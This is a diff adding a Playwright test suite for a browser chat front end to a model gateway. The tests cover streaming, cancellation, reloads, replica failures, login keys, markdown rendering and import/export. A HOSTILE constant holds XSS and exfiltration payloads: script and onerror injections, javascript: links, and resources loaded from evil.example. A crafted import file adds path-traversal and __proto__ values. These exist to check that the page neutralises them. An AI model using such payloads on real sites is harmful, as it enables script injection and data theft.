@@ -1,0 +1,514 @@
+"""The chat page in a real Chromium: its process over a real gateway, with an engine that says what a test wrote."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from chat_page_driver import PHONE, People, a_chromium, log_in, violations
+from chat_page_rig import Answer, ChatPage, Gate, chat_page
+from path_proxy import PathProxy
+from playwright.sync_api import Browser, FilePayload, expect
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+FIGURES = re.compile(r"TTFT .+ · 3 tokens · 18 in \(12 cached\) · \$[0-9.]+ · replica 0")
+CACHED = {"prompt_tokens": 18, "completion_tokens": 3, "prompt_tokens_details": {"cached_tokens": 12}}
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with a_chromium() as browser:
+        yield browser
+
+
+@pytest.fixture(scope="module")
+def rig(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ChatPage]:
+    """One process of the page for all tests."""
+    with chat_page(tmp_path_factory.mktemp("chat-page")) as rig:
+        yield rig
+
+
+@pytest.fixture(scope="module")
+def cookies(browser: Browser, rig: ChatPage) -> list[Any]:
+    return log_in(browser, rig)
+
+
+@pytest.fixture
+def people(browser: Browser, rig: ChatPage, cookies: list[Any]) -> Iterator[People]:
+    rig.answers.clear()
+    rig.engine.asked.clear()
+    with People(browser, rig, cookies) as people:
+        yield people
+
+
+def test_first_question_is_answered_with_figures_and_kept(people: People, rig: ChatPage) -> None:
+    rig.answers["hello"] = Answer(("Good ", "morning"), usage=CACHED)
+    chat = people.chat()
+    expect(chat.box).to_be_focused()
+    expect(chat.chip).to_have_text("ready")
+    chat.ask("hello")
+    expect(chat.conversation).to_contain_text("Good morning")
+    expect(chat.figures).to_have_text(FIGURES)
+    expect(chat.box).to_have_value("")
+    expect(chat.chats).to_have_text(["hello"])
+    asked = rig.engine.asked[0].body
+    assert (asked["max_tokens"], asked["messages"][-1]) == (512, {"role": "user", "content": "hello"})
+    assert chat.leaf["text"] == "Good morning"
+
+
+def test_text_is_shown_before_the_answer_ends_and_its_reasoning_is_folded(people: People, rig: ChatPage) -> None:
+    gates = Gate(), Gate()
+    steps = ({"reasoning": "Let me think."}, gates[0], "The first words ", gates[1], "and the last.")
+    rig.answers["slowly"] = Answer(steps)
+    chat = people.chat()
+    chat.ask("slowly")
+    expect(chat.conversation.get_by_text("Reasoning")).to_be_visible()
+    expect(chat.clock).to_be_visible()
+    gates[0].open()
+    expect(chat.conversation).to_contain_text("The first words")
+    expect(chat.figures).to_have_count(0)
+    gates[1].open()
+    expect(chat.conversation).to_contain_text("The first words and the last.")
+    expect(chat.figures).to_have_count(1)
+    expect(chat.clock).to_have_count(0)
+    expect(chat.conversation.get_by_text("Let me think.")).to_be_hidden()
+    chat.conversation.get_by_text("Reasoning").click()
+    expect(chat.conversation.get_by_text("Let me think.")).to_be_visible()
+    assert chat.leaf["reasoning"] == "Let me think."
+
+
+@pytest.mark.parametrize("how", ["button", "escape", "closed tab", "new chat"])
+def test_end_of_the_interest_ends_the_work_of_the_engine(people: People, rig: ChatPage, how: str) -> None:
+    rig.answers["long"] = Answer(("Once upon a time", Gate()))
+    chat = people.chat()
+    chat.ask("long")
+    expect(chat.conversation).to_contain_text("Once upon a time")
+    asked = rig.wait_for_asked(1)
+    begun = time.monotonic()
+    if how == "button":
+        chat.stop.click()
+    elif how == "escape":
+        chat.page.keyboard.press("Escape")
+    elif how == "closed tab":
+        chat.page.close()
+    else:
+        chat.new()
+    rig.wait_until(lambda: asked.cut_at is not None, "the engine's request ends")
+    assert asked.cut_at is not None
+    assert asked.cut_at - begun < 1.0
+    if how in ("button", "escape"):
+        expect(chat.conversation).to_contain_text("Once upon a time")
+        expect(chat.figures).to_contain_text("stopped")
+        chat.ask_and_wait("and now?")
+
+
+def test_reload_keeps_the_conversation_the_draft_and_the_half_of_an_answer(people: People, rig: ChatPage) -> None:
+    rig.answers["long"] = Answer(("Half of it", Gate()))
+    chat = people.chat()
+    chat.ask_and_wait("hello")
+    chat.ask("long")
+    expect(chat.conversation).to_contain_text("Half of it")
+    rig.wait_until(lambda: chat.leaf["text"] == "Half of it", "the half is kept")
+    chat.box.fill("not sent yet")
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    expect(chat.conversation).to_contain_text("Half of it")
+    expect(chat.box).to_have_value("not sent yet")
+    chat.box.press("Enter")
+    expect(chat.conversation).to_contain_text("You said: not sent yet")
+
+
+def test_two_tabs_share_the_list_and_have_a_conversation_each(people: People) -> None:
+    first = people.chat()
+    second = people.chat(first.page.context)
+    first.ask_and_wait("from the first")
+    expect(second.chats).to_have_text(["from the first"])
+    second.ask_and_wait("from the second")
+    expect(first.chats).to_have_text(["from the second", "from the first"])
+    expect(first.conversation).not_to_contain_text("from the second")
+    first.ask_and_wait("once more")
+    second.chats.last.click()
+    expect(second.conversation).to_contain_text("You said: once more")
+    assert {first.stored()["id"]} == {second.stored()["id"]}
+
+
+def test_killed_replica_leaves_the_text_and_offers_to_go_on(people: People, rig: ChatPage) -> None:
+    rig.answers["long"] = Answer(("Half of it,", Gate()))
+    chat = people.chat()
+    chat.ask("long")
+    expect(chat.conversation).to_contain_text("Half of it,")
+    rig.kill_replicas()
+    expect(chat.error).to_be_visible()
+    expect(chat.conversation).to_contain_text("Half of it,")
+    rig.answers["long"] = Answer((" and the other half.",))
+    rig.add_replica()
+    chat.act("continue").click()
+    expect(chat.conversation).to_contain_text("Half of it, and the other half.")
+    expect(chat.error).to_have_count(0)
+    assert chat.leaf["text"] == "Half of it, and the other half."
+
+
+def test_killed_page_process_comes_back_with_all_that_was_there(people: People, rig: ChatPage) -> None:
+    rig.answers["long"] = Answer(("Half of it", Gate()))
+    chat = people.chat()
+    chat.ask_and_wait("hello")
+    chat.ask("long")
+    rig.wait_until(lambda: chat.leaf["text"] == "Half of it", "the half is kept")
+    chat.box.fill("not sent yet")
+    rig.kill_page()
+    rig.start_page()
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("Half of it")
+    expect(chat.box).to_have_value("not sent yet")
+    chat.box.press("Enter")
+    expect(chat.conversation).to_contain_text("You said: not sent yet")
+
+
+def test_login_wants_a_key_that_the_gateway_takes(people: People, rig: ChatPage) -> None:
+    key = rig.make_key("bob")
+    page = people.tab(is_logged_in=False)
+    expect(page.get_by_label("API key")).to_be_focused()
+    assert violations(page) == []
+    page.keyboard.type("wrong")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("alert")).to_contain_text("key")
+    page.get_by_label("API key").fill(key)
+    page.keyboard.press("Enter")
+    expect(page.locator("#penstock-message textarea")).to_be_visible()
+    assert key not in page.content()
+    cookie = next(cookie for cookie in page.context.cookies() if cookie["name"].startswith("penstock-ui"))
+    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
+
+
+def test_key_that_is_revoked_while_chatting_leads_back_to_the_login(people: People, rig: ChatPage) -> None:
+    key = rig.make_key("carol")
+    chat = people.chat(is_logged_in=False, url=f"{rig.url}#key={key}")
+    chat.ask_and_wait("hello")
+    rig.revoke("carol")
+    chat.ask("are you there?")
+    expect(chat.error.or_(chat.page.get_by_label("API key"))).to_be_visible()
+    chat.page.goto(f"{rig.url}#key={rig.make_key('carol2')}")
+    expect(chat.conversation).to_contain_text("You said: hello")
+    expect(chat.conversation).to_contain_text("are you there?")
+
+
+def test_gateway_that_is_away_is_said_and_comes_back_without_a_reload(people: People, rig: ChatPage) -> None:
+    rig.stop_gateway()
+    try:
+        chat = people.chat()
+        expect(chat.chip).to_have_text("offline")
+        chat.ask("hello")
+        expect(chat.error).to_be_visible()
+        expect(chat.conversation).to_contain_text("hello")
+    finally:
+        rig.start_gateway()
+    expect(chat.chip).to_have_text("ready")
+    chat.act("retry").last.click()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    expect(chat.error).to_have_count(0)
+
+
+HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
+<svg onload="window.hacked = 1"><style>@import url(http://evil.example/a.css); body { display: none }</style>
+[link](javascript:window.hacked=1) ![image](https://evil.example/leak.png?words) [a](data:text/html,<script>1</script>)
+<link rel=stylesheet href=https://evil.example/b.css><iframe src=https://evil.example></iframe>
+<form action=https://evil.example><button>go</button></form> <a href="https://evil.example/" ping="https://evil.example">x</a>
+
+| <b onmouseover=window.hacked=1>table</b> | ![i][ref] |
+|---|---|
+| `<img src=x onerror=window.hacked=1>` | <video src=https://evil.example/v> |
+
+[ref]: https://evil.example/ref.png
+
+$\\href{javascript:window.hacked=1}{math}$ $\\includegraphics{https://evil.example/i.png}$
+
+```html
+<script>window.hacked = 1</script>
+```
+
+```mermaid
+graph LR; A-->B["<img src=x onerror=window.hacked=1>"]; click A "javascript:window.hacked=1"
+```
+The end of it."""
+
+
+def test_hostile_answer_does_nothing_and_asks_no_other_host(people: People, rig: ChatPage) -> None:
+    call = {"index": 0, "id": "c", "type": "function", "function": {"name": HOSTILE, "arguments": HOSTILE}}
+    pieces = [HOSTILE[i : i + 40] for i in range(0, len(HOSTILE), 40)]
+    rig.answers[HOSTILE] = Answer(({"reasoning": HOSTILE}, *pieces, {"tool_calls": [call]}))
+    chat = people.chat()
+    chat.ask(HOSTILE)
+    expect(chat.figures).to_have_count(1)
+    expect(chat.conversation).to_contain_text("The end of it.")
+    for fold in chat.conversation.locator("[aria-expanded=false], details:not([open]) summary").all():
+        fold.click()
+    for link in chat.conversation.get_by_role("link").all():
+        address = link.get_attribute("href") or ""
+        assert address.startswith(("https://", "http://", "#", "login")), address
+    assert chat.page.evaluate("window.hacked ?? null") is None
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("The end of it.")
+    assert chat.page.evaluate("window.hacked ?? null") is None
+    assert chat.page.locator("#penstock-chat :is(script, iframe, style, form, video, object, embed, link)").count() == 0
+
+
+def test_answer_is_drawn_as_markdown(people: People, rig: ChatPage, tmp_path: Path) -> None:
+    text = (
+        "It costs $5 and $6, while $E=mc^2$ and \\(a+b\\) are formulas:\n\n$$\\int_0^1 x\\,dx$$\n\n"
+        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hello <b>')\n```\n\nGrüße, 你好, 👋 &amp; <br>."
+    )
+    rig.answers["markdown"] = Answer((text,))
+    context = people.context(permissions=["clipboard-read", "clipboard-write"])
+    chat = people.chat(context)
+    chat.ask("markdown")
+    expect(chat.figures).to_have_count(1)
+    expect(chat.conversation).to_contain_text("It costs $5 and $6, while")
+    expect(chat.conversation.locator(".katex")).to_have_count(3)
+    expect(chat.conversation.locator("table td").first).to_have_text("1")
+    expect(chat.conversation).to_contain_text("Grüße, 你好, 👋 &")
+    chat.conversation.locator("pre").hover()
+    chat.conversation.locator(".code_wrap button, button.copy-code, pre button").first.click()
+    assert chat.page.evaluate("navigator.clipboard.readText()").strip() == "print('hello <b>')"
+    chat.act("copy").last.click()
+    rig.wait_until(lambda: chat.page.evaluate("navigator.clipboard.readText()") == text, "the answer is copied")
+
+
+def test_branches_of_an_edited_question_and_a_second_answer(people: People, rig: ChatPage) -> None:
+    rig.answers["first"] = Answer(("Answer one",))
+    chat = people.chat()
+    chat.ask("first")
+    expect(chat.figures).to_have_count(1)
+    rig.answers["first"] = Answer(("Answer two",))
+    chat.act("retry").click()
+    expect(chat.conversation).to_contain_text("Answer two")
+    expect(chat.conversation).to_contain_text("2/2")
+    chat.page.get_by_role("button", name="Previous answer").click()
+    expect(chat.conversation).to_contain_text("Answer one")
+    chat.act("edit").first.click()
+    editor = chat.page.locator("#penstock-chat textarea, #penstock-edit textarea, #penstock-message textarea").first
+    expect(editor).to_have_value("first")
+    editor.fill("second")
+    editor.press("Enter")
+    expect(chat.conversation).to_contain_text("You said: second")
+    chat.page.get_by_role("button", name="Previous question").click()
+    expect(chat.conversation).to_contain_text("Answer one")
+    chat.act("delete").last.click()
+    expect(chat.conversation).to_contain_text("Answer two")
+
+
+def test_export_is_imported_by_another_browser(people: People, tmp_path: Path) -> None:
+    chat = people.chat()
+    chat.ask_and_wait("What is a penstock?")
+    with chat.page.expect_download() as download:
+        chat.page.get_by_role("button", name="Export all").click()
+    file = tmp_path / "chats.json"
+    download.value.save_as(file)
+    other = people.chat()
+    expect(other.page.get_by_text("Your chats stay in this browser.")).to_be_visible()
+    other.page.get_by_label("File of chats").set_input_files(file)
+    expect(other.chats).to_have_text(["What is a penstock?"])
+    other.chats.click()
+    expect(other.conversation).to_contain_text("You said: What is a penstock?")
+    assert other.stored() == chat.stored()
+    hostile = {"id": "../<img>", "title": HOSTILE, "turns": {"__proto__": {}}, "leaf": "x", "version": 1}
+    file.write_text(json.dumps([hostile]))
+    other.page.get_by_label("File of chats").set_input_files(file)
+    expect(other.page.locator("#penstock-notices")).to_contain_text("Could not import")
+
+
+def test_search_finds_a_conversation_by_its_words(people: People) -> None:
+    chat = people.chat()
+    chat.ask_and_wait("apples")
+    chat.new()
+    chat.ask_and_wait("pears")
+    expect(chat.chats).to_have_text(["pears", "apples"])
+    chat.page.keyboard.press("Control+k")
+    chat.page.keyboard.type("said: apples")
+    expect(chat.chats).to_have_text(["apples"])
+    chat.chats.click()
+    expect(chat.conversation).to_contain_text("You said: apples")
+
+
+def test_keyboard_alone_is_enough(people: People, rig: ChatPage) -> None:
+    chat = people.chat()
+    keyboard = chat.page.keyboard
+    keyboard.type("line one")
+    keyboard.press("Shift+Enter")
+    keyboard.type("line two")
+    keyboard.press("Enter")
+    expect(chat.figures).to_have_count(1)
+    assert rig.engine.asked[0].question == "line one\nline two"
+    keyboard.press("Control+Shift+O")
+    expect(chat.conversation).not_to_contain_text("line one")
+    keyboard.type("a new one")
+    keyboard.press("Enter")
+    expect(chat.chats).to_have_count(2)
+    keyboard.press("Control+b")
+    expect(chat.chats.first).not_to_be_in_viewport()
+    keyboard.press("Control+b")
+    expect(chat.chats.first).to_be_in_viewport()
+    chat.box.press("Escape")
+    chat.chats.last.focus()
+    keyboard.press("?")
+    expect(chat.page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
+    keyboard.press("Escape")
+    keyboard.press("Enter")
+    expect(chat.conversation).to_contain_text("line one")
+
+
+def test_wait_for_a_replica_is_told_with_its_shards(people: People, rig: ChatPage) -> None:
+    rig.stop_gateway()
+    rig.start_gateway(is_ready=False)
+    try:
+        progress = {"stage": "loading weights", "shards_done": 17, "shards_total": 30, "fraction": 0.57, "eta_s": 40.0}
+        rig.announce("loading", progress=progress)
+        chat = people.chat()
+        expect(chat.chip).to_contain_text("17/30")
+        chat.ask("hello")
+        expect(chat.clock).to_have_text(re.compile(r"waiting for a replica: loading 17/30 shards, about 40 s · \d+ s"))
+        rig.add_replica()
+        expect(chat.conversation).to_contain_text("You said: hello")
+        expect(chat.chip).to_have_text("ready")
+    finally:
+        rig.stop_gateway()
+        rig.start_gateway()
+
+
+def test_place_in_the_queue_is_told(people: People, rig: ChatPage) -> None:
+    gate = Gate()
+    rig.answers["long"] = Answer(("Once", gate))
+    rig.stop_gateway()
+    rig.start_gateway(max_in_flight=1)
+    try:
+        chats = [people.chat() for _ in range(3)]
+        chats[0].ask("long")
+        expect(chats[0].conversation).to_contain_text("Once")
+        chats[1].ask("second")
+        expect(chats[1].clock).to_contain_text("in the queue")
+        chats[2].ask("third")
+        expect(chats[2].clock).to_contain_text("in the queue: 1 before you")
+        gate.open()
+        expect(chats[2].conversation).to_contain_text("You said: third")
+    finally:
+        rig.stop_gateway()
+        rig.start_gateway()
+
+
+TOO_LONG = (
+    "This model's maximum context length is 1024 tokens. However, you requested 512 output tokens and your prompt "
+    "contains at least 1100 input tokens, for a total of at least 1612 tokens. Please reduce the length of the input "
+    "prompt or the number of requested output tokens. (parameter=input_tokens, value=1100)"
+)
+
+
+def test_prompt_that_is_too_long_can_leave_out_the_oldest(people: People, rig: ChatPage) -> None:
+    chat = people.chat()
+    chat.ask_and_wait("the oldest")
+    rig.answers["too much"] = Answer((TOO_LONG,), status=400)
+    chat.ask("too much")
+    expect(chat.error).to_contain_text(re.compile("1,?100|1,?612|588"))
+    rig.answers.clear()
+    chat.act("shrink").click()
+    expect(chat.conversation).to_contain_text("You said: too much")
+    assert "the oldest" not in json.dumps(rig.engine.asked[-1].body["messages"])
+
+
+def test_overload_is_told_with_a_countdown_and_asked_again(people: People, rig: ChatPage) -> None:
+    rig.answers["busy"] = Answer(("too many requests",), status=429, headers={"Retry-After": "2"})
+    chat = people.chat()
+    chat.ask("busy")
+    expect(chat.error).to_be_visible()
+    rig.answers.clear()
+    chat.error.locator("button[data-act=retry]").click()
+    expect(chat.conversation).to_contain_text("You said: busy")
+
+
+def test_image_goes_to_the_model_and_stays_in_the_conversation(people: People, rig: ChatPage) -> None:
+    chat = people.chat()
+    file = FilePayload(name="dot.png", mimeType="image/png", buffer=png(8, 8))
+    chat.page.locator("#penstock-message input[type=file]").set_input_files(file)
+    chat.box.fill("what is it?")
+    rig.wait_until(
+        lambda: chat.page.locator("#penstock-message img, #penstock-message .thumbnail-item").count(), "shown"
+    )
+    chat.box.press("Enter")
+    expect(chat.figures).to_have_count(1)
+    parts = rig.engine.asked[0].body["messages"][-1]["content"]
+    assert [part["type"] for part in parts] in (["text", "image_url"], ["image_url", "text"])
+    image = next(part for part in parts if part["type"] == "image_url")["image_url"]["url"]
+    assert image.startswith("data:image/png;base64,")
+    chat.page.reload()
+    expect(chat.conversation.locator("img[src^='data:image/png']").first).to_be_visible()
+
+
+def png(width: int, height: int) -> bytes:
+    def part(name: bytes, data: bytes) -> bytes:
+        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")
+
+    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
+    rows = zlib.compress((b"\0" + b"\xff\0\0" * width) * height)
+    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")
+
+
+def test_tool_calls_are_shown_and_run_by_nobody(people: People, rig: ChatPage) -> None:
+    def piece(**function: str) -> dict[str, Any]:
+        return {"tool_calls": [{"index": 0, "id": "call-1", "type": "function", "function": function}]}
+
+    steps = piece(name="get_weather", arguments=""), piece(arguments='{"city": '), piece(arguments='"Seoul"}')
+    rig.answers["weather"] = Answer(steps, finish_reason="tool_calls")
+    chat = people.chat()
+    chat.ask("weather")
+    expect(chat.figures).to_have_count(1)
+    chat.conversation.get_by_text("get_weather").click()
+    expect(chat.conversation).to_contain_text('"city": "Seoul"')
+    assert chat.leaf["tool_calls"] == [{"name": "get_weather", "arguments": '{"city": "Seoul"}'}]
+
+
+@pytest.mark.parametrize("look", ["light", "dark", "phone"])
+def test_page_has_no_serious_violation(people: People, rig: ChatPage, look: str) -> None:
+    steps = ({"reasoning": "Hm."}, "Text, `code`, [a link](https://example.com), $x$\n\n```python\nprint(1)\n```\n")
+    rig.answers["all"] = Answer((*steps, "\n| a | b |\n|---|---|\n| 1 | 2 |\n"))
+    options: dict[str, Any] = {"dark": {"color_scheme": "dark"}, "phone": {"viewport": PHONE, "has_touch": True}}
+    chat = people.chat(**options.get(look, {}))
+    chat.ask("all")
+    expect(chat.figures).to_have_count(1)
+    assert violations(chat.page) == []
+    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    if look == "phone":
+        expect(chat.box).to_be_in_viewport()
+        expect(chat.figures).to_be_in_viewport()
+    if look == "dark":
+        assert chat.page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
+
+
+def test_answer_of_200_kb_is_shown_and_kept_whole(people: People, rig: ChatPage) -> None:
+    text = "".join(f"Line {i} of a very long answer, as models write them.\n\n" for i in range(3700))
+    assert len(text) > 200_000
+    rig.answers["long"] = Answer(tuple(text[i : i + 2000] for i in range(0, len(text), 2000)))
+    chat = people.chat()
+    chat.ask("long")
+    expect(chat.figures).to_have_count(1, timeout=30_000)
+    expect(chat.conversation).to_contain_text("Line 3699 of")
+    assert chat.leaf["text"] == text
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("Line 3699 of")
+
+
+@pytest.mark.parametrize("strips", [True, False])
+def test_page_works_below_a_path(people: People, rig: ChatPage, strips: bool) -> None:
+    with PathProxy(rig.port, "/x/y", strips=strips) as proxy:
+        people.origins.add(proxy.url.split("/")[2])
+        page = people.tab(url=f"{proxy.url}#key={rig.make_key(f'proxy-{strips}')}", is_logged_in=False)
+        expect(page.locator("#penstock-message textarea")).to_be_visible()
+        page.locator("#penstock-message textarea").fill("hello")
+        page.keyboard.press("Enter")
+        expect(page.locator("#penstock-chat")).to_contain_text("You said: hello")
+        expect(page.locator("#penstock-state")).to_have_text("ready")
+        assert proxy.outside == []
